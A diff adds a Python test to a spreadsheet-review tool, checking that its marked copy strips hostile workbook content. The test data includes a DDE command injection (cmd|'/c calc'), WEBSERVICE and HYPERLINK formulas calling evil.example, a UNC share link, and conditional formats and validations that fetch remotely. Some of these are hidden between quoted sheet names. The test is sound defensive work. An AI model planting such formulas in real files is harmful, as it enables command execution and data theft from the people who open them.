@@ -803,6 +803,51 @@ def test_formulas_reaching_outside_become_the_values_read(tmp_path: Path) -> Non
     assert wb.defined_names["合计"].attr_text == "事项清单!$J$2"
 
 
+def test_quoted_sheet_names_hide_no_outward_formula(tmp_path: Path) -> None:
+    """A sheet may be named x"y: its " paired with the next one hid cmd|…, WEBSERVICE( and
+    HYPERLINK( between two such names, and the marked copy kept them live. Links to a share or
+    a program, and conditional formats and validations that fetch, are dropped too; a web
+    link and the department's own rule stay."""
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    from catalog_check.review import review_file
+
+    source = tmp_path / "省公安厅-第二批.xlsx"
+    _make_source(source)
+    wb = openpyxl.load_workbook(source)
+    ws = wb[SHEET]
+    wb.create_sheet('x"y')["A1"] = 1
+    wb.create_sheet('p"q')["A1"] = 1
+    ws["K5"] = """='x"y'!A1&cmd|'/c calc'!A0&'p"q'!A1"""
+    ws["K6"] = """=N('x"y'!A1)+LEN(WEBSERVICE("http:"&"//evil.example/w?"&B6))+N('p"q'!A1)"""
+    ws["K7"] = """='x"y'!A1&HYPERLINK("file:"&"//evil.example/x.exe","说明")&'p"q'!A1"""
+    ws["K8"] = """='x"y'!A1&"it's"&'p"q'!A1"""  # texts and names only: stays
+    ws["B6"].hyperlink = r"\\evil.example\share\steal.xlsx"
+    ws["C5"].hyperlink = "file:///C:/Windows/System32/calc.exe"
+    ws["C6"].hyperlink = "http://www.zjzwfw.gov.cn/"
+    ws.conditional_formatting.add(
+        "A5:A6", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://evil.example/cf"))']))
+    ws.conditional_formatting.add("B5:B6", FormulaRule(formula=['LEN(B5)>30']))
+    fetch = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://e.example/v"))')
+    ws.add_data_validation(fetch)
+    fetch.add("D5:D6")
+    own = DataValidation(type="list", formula1='"行政许可,公共服务"')
+    ws.add_data_validation(own)
+    own.add("C5:C6")
+    wb.save(source)
+    full = review_file(source)
+    out = write_marked_copy(source, full.workbook, full.tables.layouts, full.file,
+                            tmp_path / "m.xlsx")
+    sheet = openpyxl.load_workbook(out)[SHEET]
+    assert [sheet[c].data_type for c in ("K5", "K6", "K7")] == ["n", "n", "n"]
+    assert (sheet["K8"].data_type, sheet["K8"].value) == ("f", """='x"y'!A1&"it's"&'p"q'!A1""")
+    assert sheet["B6"].hyperlink is None and sheet["C5"].hyperlink is None
+    assert sheet["C6"].hyperlink.target == "http://www.zjzwfw.gov.cn/"
+    assert [r.formula for cf in sheet.conditional_formatting for r in cf.rules] == [["LEN(B5)>30"]]
+    assert [v.formula1 for v in sheet.data_validations.dataValidation] == ['"行政许可,公共服务"']
+
+
 def test_links_to_other_workbooks_are_not_written_back(tmp_path: Path) -> None:
     """An external link part (file:///\\\\host\\share\\x.xlsx, which Excel offers to update,
     reaching that host) is not in the marked copy; its formula is the value read."""
